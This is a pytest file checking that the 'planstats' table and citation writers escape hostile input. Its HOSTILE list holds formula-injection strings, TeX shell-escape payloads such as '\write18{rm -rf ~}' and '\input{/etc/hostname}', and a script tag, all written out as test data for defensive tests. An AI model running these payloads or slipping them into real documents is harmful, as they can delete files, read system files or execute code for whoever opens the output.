"""What planstats writes for a paper or a spreadsheet: LaTeX tables and BibTeX that a real TeX engine
compiles (xelatex with xeCJK, or tectonic, when one is installed; the escaping is checked as text in any
case), and every CSV, Markdown, LaTeX and BibTeX writer fed the same hostile strings: nothing in them runs,
and a CSV comes back exactly as it was written."""

import csv
import io
import re
import shutil
import subprocess
import warnings
from pathlib import Path

import bibtexparser
import pandas as pd
import pytest
from conftest import make_frame

import planstats as ps
from planstats import cli

# what a spreadsheet runs, what TeX runs (with shell escape: a shell command), what a browser runs, and what
# breaks a table, a BibTeX entry or a CSV row
HOSTILE = (
    '=HYPERLINK("http://x.test/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "'=1+1.txt",
    "''quoted",
    r"\input{/etc/hostname}",
    r"\immediate\write18{touch pwned}",
    r"\write18{rm -rf ~}\csname @@end\endcsname",
    "R&D 50% #1_x $y^2$ ~ {unbalanced",
    "}} } closing",
    "a|b || c",
    "<script>alert(1)</script>",
    "甲县|<b>乙县</b>",
    'say "hi"\r\nnext line',
    "back\\slash",
    r"$\undefined{$ mathtext",  # matplotlib reads between two $ as mathematics
)

# a macro that runs: \input, \write18, \immediate, \csname (an escaped backslash is \textbackslash{})
_RUNS = re.compile(r"\\(?:input|include|write|immediate|csname|openout|read|catcode|def)(?![a-zA-Z])")


def _engine() -> list[str] | None:
    """The command that compiles a .tex file with its BibTeX, or None when no engine is installed."""
    if shutil.which("xelatex") and shutil.which("bibtex"):
        return ["xelatex"]
    if shutil.which("tectonic"):
        return ["tectonic"]
    return None


def _fonts(lang: str) -> set[str]:
    if not shutil.which("fc-list"):
        return set()
    listed = subprocess.run(["fc-list", f":lang={lang}", "file"], capture_output=True, text=True).stdout.split()
    return {f.rstrip(":") for f in listed if f.rstrip(":").endswith((".ttf", ".otf"))}


def _cjk_font() -> Path:
    """A font with simplified and traditional Chinese (the sources quote both): the system's, else the
    Noto Sans CJK that planstats draws charts with."""
    both = sorted(_fonts("zh-cn") & _fonts("zh-tw"))
    if both:
        return Path(both[0])
    import matplotlib.font_manager as fm

    from planstats.chartstyle import cjk_font

    return Path(fm.findfont(fm.FontProperties(family=cjk_font())))


def _document(tables: list[str], bib: str | None) -> str:
    font = _cjk_font()
    head = [
        r"\documentclass{article}",
        r"\usepackage{booktabs}",
        r"\usepackage{xeCJK}",
        rf"\setCJKmainfont{{{font.name}}}[Path={font.parent.as_posix()}/]",
        r"\usepackage{url}",
        r"\begin{document}",
    ]
    tail = [r"\nocite{*}", r"\bibliographystyle{plainnat}", r"\bibliography{refs}"] if bib else []
    return "\n".join([*head, *tables, *tail, r"\end{document}", ""])


def _compile(tmp_path: Path, tables: list[str], bib: str | None = None) -> str:
    """Compile ``tables`` (and ``bib``) with a real engine, without shell escape; return the log."""
    engine = _engine()
    if engine is None:
        pytest.skip("no TeX engine (xelatex or tectonic): the escaping is checked as text by the other tests")
    (tmp_path / "paper.tex").write_text(_document(tables, bib), encoding="utf-8")
    if bib is not None:
        (tmp_path / "refs.bib").write_text(bib, encoding="utf-8")
    if engine == ["tectonic"]:
        steps = [["tectonic", "--keep-logs", "--untrusted", "paper.tex"]]
    else:
        run = ["xelatex", "-no-shell-escape", "-interaction=nonstopmode", "-halt-on-error", "paper.tex"]
        steps = [run, *([["bibtex", "paper"], run] if bib else [])]
    for step in steps:
        done = subprocess.run(step, cwd=tmp_path, capture_output=True, timeout=300)
        log = (tmp_path / "paper.log").read_text(encoding="utf-8", errors="replace")
        blg = (tmp_path / "paper.blg").read_text(errors="replace") if (tmp_path / "paper.blg").exists() else ""
        assert done.returncode == 0, f"{step[0]} failed:\n{log[-3000:]}\n{blg[-2000:]}"
    assert (tmp_path / "paper.pdf").stat().st_size > 0
    assert not list(tmp_path.glob("pwned*")) and not (Path.cwd() / "pwned").exists()
    return log


def _hostile_frame() -> pd.DataFrame:
    """A dataset whose region names, documents and raw texts are the hostile strings."""
    rows = [
        dict(region=s, doc=f"{s}.txt", raw=s, metric_text=s, year=2022 + i % 3, value=float(i) - 3.5, start=0, end=5)
        for i, s in enumerate(HOSTILE)
    ]
    return make_frame(*rows)


def _cite(tmp_path: Path, df: pd.DataFrame) -> str:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", ps.PlanstatsWarning)  # a document whose name opens with a tab is not listed
        return ps.cite(df, manifest=_manifest(tmp_path, df))


def _manifest(tmp_path: Path, df: pd.DataFrame) -> Path:
    """A manifest that gives each hostile document a hostile title, issuer and url."""
    rows = [
        {"file": doc, "region": "甲县", "year": 2022, "title": s, "issuer": s[::-1], "url": "http://x.test/" + s}
        for doc, s in zip(df["doc"], HOSTILE, strict=True)
    ]
    path = tmp_path / "manifest.csv"
    pd.DataFrame(rows).to_csv(path, index=False)
    return path


# ---------------------------------------------------------------------------------------
# LaTeX and BibTeX compile


def test_a_percentage_caption_and_a_region_name_with_specials_are_escaped():
    text = ps.table(ps.compare(ps.load(), "gdp_growth"), format="latex")
    assert r"\caption{Targets: GDP growth (\%)}" in text
    df = make_frame(dict(region="R&D_#1 50%"), dict(region="乙县", year=2023))
    text = ps.table(ps.compare(df, "gdp_growth"), format="latex")
    assert r"R\&D\_\#1 50\%" in text and not re.search(r"(?<!\\)[%#_&]\S*\\\\", text.split(r"\midrule")[1])


def test_bibtex_escapes_every_field_and_cites_documents_and_planstats_as_misc(tmp_path):
    df = make_frame(dict(doc="report_2024.txt", year=2024), dict(doc="b.txt", year=2023))
    manifest = tmp_path / "manifest.csv"
    manifest.write_text(
        "file,region,year,title,issuer,url\nreport_2024.txt,甲县,2024,R&D 50% #1_x,甲县 R&D_office,http://x.test/a_b%20c#d\n",
        encoding="utf-8",
    )
    with pytest.warns(ps.PlanstatsWarning, match="b.txt"):
        bib = ps.cite(df, manifest=manifest)
    assert r"title = {{R\&D 50\% \#1\_x}}" in bib and r"author = {{甲县 R\&D\_office}}" in bib
    assert r"note = {File report\_2024.txt" in bib and r"url = {http://x.test/a_b\%20c\#d}" in bib
    assert "@software" not in bib and len(re.findall(r"@misc\{", bib)) == 3
    assert re.search(r"@misc\{plan2023_\w+,\n  title = \{\{b\\_txt|@misc\{plan2023", bib)
    assert f"year = {{{ps.citations.RELEASE_YEAR}}}" in bib.split("@misc{planstats,")[1]


def test_the_release_year_and_version_are_those_of_citation_cff():
    cff = (Path(__file__).resolve().parent.parent / "CITATION.cff").read_text(encoding="utf-8")
    assert re.search(rf"^version: {re.escape(ps.__version__)}$", cff, flags=re.M)
    assert re.search(rf"^date-released: {ps.citations.RELEASE_YEAR}-\d\d-\d\d$", cff, flags=re.M)


def test_the_readme_table_cjk_tables_and_the_bibtex_of_the_sample_compile(tmp_path):
    data = ps.load()
    tables = [
        ps.table(ps.compare(data, "gdp_growth"), format="latex"),  # the README's example
        ps.table(ps.compare(data, ["gdp_growth", "fiscal_revenue_growth"], year=2023), format="latex", lang="zh"),
        ps.table(ps.yoy(data, "gdp_growth"), format="latex"),
    ]
    log = _compile(tmp_path, tables, ps.cite(data))
    assert "Missing character" not in log  # every Chinese character had a glyph
    bbl = (tmp_path / "paper.bbl").read_text(encoding="utf-8")
    assert bbl.count(r"\bibitem") == data["doc"].nunique() + 1


def test_hostile_tables_and_bibtex_compile_and_run_nothing(tmp_path):
    df = _hostile_frame()
    tables = [ps.table(ps.compare(df, "gdp_growth"), format="latex")]
    bib = _cite(tmp_path, df)
    log = _compile(tmp_path, tables, bib)
    assert "(/etc/hostname" not in log  # \input{/etc/hostname} was printed, not read (TeX logs "(file" it opens)


# ---------------------------------------------------------------------------------------
# the same hostile strings through every writer


def _every_output(tmp_path: Path, capsys) -> dict[str, list[str]]:
    """The text of every CSV, Markdown, LaTeX and BibTeX writer, for the hostile dataset."""
    df = _hostile_frame()
    data = tmp_path / "hostile.parquet"
    ps.write(df, data)
    result = ps.compare(df, "gdp_growth")
    out: dict[str, list[str]] = {"csv": [], "markdown": [], "latex": [], "bibtex": []}
    for fmt, suffix in (("csv", ".csv"), ("markdown", ".md"), ("latex", ".tex")):
        for r in (result, df, ps.yoy(df, "gdp_growth")):
            out[fmt].append(ps.table(r, format=fmt))
            out[fmt].append(ps.export(r, tmp_path / f"t{suffix}").read_text(encoding="utf-8"))
    out["bibtex"].append(_cite(tmp_path, df))
    from planstats.report import report

    for written in report(df, tmp_path / "report"):  # its README, tables and BibTeX
        if written.suffix in (".md", ".bib"):
            out["markdown" if written.suffix == ".md" else "bibtex"].append(written.read_text(encoding="utf-8"))
    out["csv"].append(ps.write(df, tmp_path / "d.csv").read_text(encoding="utf-8"))
    for fmt in ("csv", "markdown", "latex"):
        capsys.readouterr()
        cli.main(["compare", "--metric", "gdp_growth", "--data", str(data), "--format", fmt])
        out[fmt].append(capsys.readouterr().out)
    cli.main(["compare", "--metric", "gdp_growth", "--data", str(data), "-o", str(tmp_path / "c.csv")])
    out["csv"].append((tmp_path / "c.csv").read_text(encoding="utf-8"))
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    name = corpus / "=HYPERLINK(1).txt"
    name.write_text("某某县2024年工作要点\n主要预期目标是：GDP增长6%左右，-A1+1个。\n=SUM(1)增长5%\n", encoding="utf-8")
    capsys.readouterr()
    cli.main(["extract", str(name), "--rejects", str(tmp_path / "rejects.csv")])
    out["csv"] += [capsys.readouterr().out, (tmp_path / "rejects.csv").read_text(encoding="utf-8")]
    ps.build([corpus], out=tmp_path / "built.csv", progress=False)
    out["csv"].append((tmp_path / "built.csv").read_text(encoding="utf-8"))
    return out


_PLAIN_NUMBER = re.compile(r"[+-]?[\d.]+%?")


def test_no_writer_lets_a_hostile_string_through(tmp_path, capsys):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", ps.PlanstatsWarning)
        outputs = _every_output(tmp_path, capsys)
    assert all(outputs.values())
    for text in outputs["csv"]:
        for row in csv.reader(io.StringIO(text)):
            risky = [c for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _PLAIN_NUMBER.fullmatch(c)]
            assert not risky, risky
    for text in outputs["markdown"]:
        assert "<script" not in text and "<b>" not in text
        rows = [line for line in text.splitlines() if line.startswith("|")]
        widths = {len(re.findall(r"(?<!\\)\|", line)) for line in rows}
        assert rows and len(widths) == 1, rows  # a | in a cell opens no column
    for text in outputs["latex"] + outputs["bibtex"]:
        assert not _RUNS.search(text), _RUNS.search(text)
        assert not re.search(r"(?<!\\)%", text)  # a % would comment out the rest of a line
    for bib in outputs["bibtex"]:
        library = bibtexparser.parse_string(bib)
        assert not library.failed_blocks and len(library.entries) == len(HOSTILE) + 1
        for entry in library.entries:  # BibTeX counts every brace: each field's must balance
            for field in entry.fields:
                depth = 0
                for c in field.value:
                    depth += {"{": 1, "}": -1}.get(c, 0)
                    assert depth >= 0, field
                assert depth == 0, field


def test_the_csv_round_trip_is_exact_for_names_that_start_with_an_apostrophe(tmp_path):
    df = _hostile_frame()
    for path in (tmp_path / "d.csv", tmp_path / "excel.csv"):
        ps.write(df, path, encoding="utf-8-sig" if path.stem == "excel" else "utf-8")
        back = ps.load(path)
        for col in ("doc", "region", "raw", "metric_text"):
            assert back[col].astype(str).tolist() == df[col].astype(str).tolist(), col
    assert "''=1+1.txt" in (tmp_path / "d.csv").read_text(encoding="utf-8")


def test_excel_gets_a_workbook_whose_cells_are_text_and_a_csv_it_opens_as_utf8(tmp_path):
    pytest.importorskip("openpyxl")
    import openpyxl

    df = _hostile_frame()
    path = ps.export(df, tmp_path / "targets.xlsx")
    sheet = openpyxl.load_workbook(path).active
    rows = list(sheet.iter_rows(values_only=False))
    header = [c.value for c in rows[0]]
    assert not [c.coordinate for row in rows for c in row if c.data_type == "f"]  # no formula, of any cell
    regions = [row[header.index("region")].value for row in rows[1:]]
    assert regions == list(HOSTILE)
    csv_path = ps.export(ps.compare(ps.load(), "gdp_growth"), tmp_path / "t.csv", encoding="utf-8-sig")
    assert csv_path.read_bytes().startswith(b"\xef\xbb\xbf")
    assert "Xixian New Area" in pd.read_csv(csv_path, encoding="utf-8-sig")["region"].tolist()
    with pytest.raises(ps.ArgumentError, match="`encoding` must be 'utf-8' or 'utf-8-sig'"):
        ps.export(df, tmp_path / "t.csv", encoding="gbk")


def test_the_citing_page_shows_the_entry_cite_writes_for_planstats():
    page = (Path(__file__).resolve().parent.parent / "docs" / "citing.md").read_text(encoding="utf-8")
    shown = re.search(r"```bibtex\n(.*?)```", page, flags=re.S)[1]
    written = "@misc{planstats," + ps.cite(ps.compare(ps.load(), "gdp_growth", year=2022)).split("@misc{planstats,")[1]
    assert shown == re.sub(r"(rules fingerprint )\w+", r"\1…", written)
